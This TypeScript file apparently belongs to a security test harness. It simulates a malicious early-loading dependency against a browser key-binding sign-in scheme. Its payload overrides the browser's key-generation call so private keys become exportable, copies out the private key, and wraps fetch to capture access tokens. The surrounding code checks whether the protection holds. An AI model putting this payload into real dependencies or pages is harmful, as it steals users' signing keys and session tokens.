// Threat: a malicious dependency is there when the key is made, and has the browser make one that can be copied. Expected: the attacker then
// holds the key like its owner; that it cannot be exported is a word the page says, and this script speaks first.
import type { Attack } from '../attack.ts'
import { told } from '../scene.ts'
import { noKey } from './key-handle.ts'
import { awaitLoot, judgeToken, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  const { fetch } = window
  const { subtle } = crypto
  const generate = subtle.generateKey.bind(subtle) as (...given: unknown[]) => Promise<CryptoKeyPair>
  Object.defineProperty(subtle, 'generateKey', {
    async value(algorithm: unknown, _: boolean, uses: readonly string[]) {
      const pair = await generate(algorithm, true, uses)
      kit.take('key', JSON.stringify(await subtle.exportKey('jwk', pair.privateKey)))
      return pair
    },
  })
  window.fetch = async (input, init) => {
    const answer = await fetch(input, init)
    const token = /"accessToken":"([^"]+)"/.exec(await answer.clone().text())?.[1]
    if (token !== undefined) {
      kit.take('token', token)
      void kit.flush()
    }
    return answer
  }
}

export const earlyKey: Attack = {
  name: 'early-key',
  group: 'script, early',
  title: 'Has the browser make a key that can be copied',
  what: 'The dependency replaces the browser’s way to make keys before the application asks for one, and sends key and token to the attacker.',
  why: 'The key is made by a call like any other. Who comes first can change what is asked for.',
  stops:
    'Fewer dependencies, pinned and reviewed. The damage is that of any early script: an access token’s life; the refresh cookie stays in the browser.',
  script: { when: 'early', payload: script },
  control: 'hallpass-bound',
  succeedsOn: ['hallpass-bound'],
  inapplicable: noKey,
  async run(scene) {
    scene.injectEarly(script)
    const page = await scene.open()
    await told(page, 'ready')
    const installed = await scriptReport(scene)
    const signing = scene.signIn(page).catch(() => undefined)
    const report = await Promise.race([awaitLoot(scene, 'token', 8_000), signing.then(() => awaitLoot(scene, 'token'))])
    return judgeToken(scene, page, { ...report, ran: installed.ran }, 'was given no key and no token')
  },
}
